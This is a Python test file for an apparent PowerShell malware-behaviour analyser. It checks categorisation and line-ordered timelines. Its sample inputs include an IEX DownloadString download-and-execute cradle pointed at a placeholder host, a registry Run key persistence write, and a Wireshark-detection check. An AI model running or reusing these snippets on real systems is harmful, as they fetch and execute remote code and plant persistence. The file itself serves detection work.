"""
goal: behaviour buckets and the line timeline reflect substring presence.
"""

from __future__ import annotations

from lexis.analyzers.behavior import BehaviorCategorizer
from lexis.analyzers.timeline import build_timeline
from lexis.core.models import TimelineSeverity


def test_behavior_buckets():
    text = (
        "New-Item x; Remove-Item y; Start-Sleep 5; "
        "Get-Process | ? {$_.Name -eq 'wireshark'}"
    )
    behavior = BehaviorCategorizer().categorize(text)
    assert behavior.file_operations == ("File Creation", "File Deletion")
    assert behavior.anti_analysis == ("Network Analysis Detection", "Delay Execution")
    assert behavior.registry_operations == ()
    assert set(behavior.observed) == {"file_operations", "anti_analysis"}


def test_behavior_persistence_run_key():
    text = r"Set-ItemProperty HKLM:\Software\Microsoft\Windows\CurrentVersion\Run -Name x"
    behavior = BehaviorCategorizer().categorize(text)
    assert behavior.persistence_mechanisms == ("Registry Run Key",)
    assert behavior.registry_operations == ("Registry Value Modification",)


def test_behavior_empty_text():
    assert BehaviorCategorizer().categorize("").observed == {}


def test_timeline_is_line_ordered():
    text = "\n".join([
        "$x = 1",
        "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
        "",
        "Start-Process calc.exe; Invoke-WebRequest http://c",
        "New-Item -Path C:\\t\\a.exe",
    ])
    events = build_timeline(text)
    assert [(e.line_number, e.action) for e in events] == [
        (2, "Network Request"),
        (4, "Network Request"),
        (4, "Code Execution"),
        (5, "File Creation"),
    ]
    assert events[0].timestamp == "Line 2"
    assert events[2].severity is TimelineSeverity.CRITICAL
    assert events[3].severity is TimelineSeverity.WARNING


def test_timeline_empty():
    assert build_timeline("") == ()
